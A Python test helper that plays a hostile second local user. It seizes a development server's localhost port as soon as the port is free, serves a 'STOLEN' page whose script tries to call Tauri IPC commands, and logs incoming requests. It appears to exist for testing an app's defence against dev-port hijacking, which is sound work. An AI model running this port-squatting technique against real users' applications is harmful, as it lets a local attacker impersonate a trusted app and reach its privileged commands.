"""Another user's program that takes a dev server's port as soon as it is free, and serves its own page.

``window_thief.py UID``. Each line of its stdin is the port to take from then on, 0 for none. It prints ``up``, then
``held PORT`` and ``left PORT``. For each request it prints ``asked LINE to HOST``: the first line, and the Host header.
"""

from __future__ import annotations

import os
import select
import socket
import sys
import threading

if sys.platform == "win32":
    raise ImportError("users as Unix has them")

PAGE = b"""<!doctype html><title>STOLEN</title><h1 id="stolen">STOLEN</h1><script>
window.__TAURI_INTERNALS__?.invoke("greet", { name: "thief" }).then(() => fetch("/greeted"));
window.__TAURI_INTERNALS__?.invoke("plugin:sidecar|status").then(() => fetch("/status"));
</script>"""
ANSWER = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s"


def say(text: str) -> None:
    os.write(1, f"{text}\n".encode())


def serve(client: socket.socket) -> None:
    with client:
        try:
            said = client.recv(65536)
            if said:
                first, *fields = said.decode(errors="replace").splitlines()
                host = next((it.partition(":")[2].strip() for it in fields if it.lower().startswith("host:")), "")
                say(f"asked {first} to {host}")
                client.sendall(ANSWER % (len(PAGE), PAGE))
        except OSError:  # the client has gone
            return


def take(port: int) -> socket.socket | None:
    sock = socket.socket()
    try:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("127.0.0.1", port))
        sock.listen(64)
    except OSError:  # somebody has it
        sock.close()
        return None
    return sock


def main() -> None:
    os.setgid(int(sys.argv[1]))
    os.setuid(int(sys.argv[1]))
    say("up")
    port = 0
    held: socket.socket | None = None
    while True:
        if held is None and port:
            held = take(port)
            if held is not None:
                say(f"held {port}")
        wait = 1.0 if held is not None or not port else 0.0002
        looked: list[int | socket.socket] = [0] if held is None else [0, held]
        ready, _, _ = select.select(looked, [], [], wait)
        if 0 in ready:
            line = os.read(0, 64)
            if not line:
                return
            if held is not None:
                held.close()
                say(f"left {port}")
            port, held = int(line), None
        elif held is not None and held in ready:
            threading.Thread(target=serve, args=[held.accept()[0]], daemon=True).start()


main()
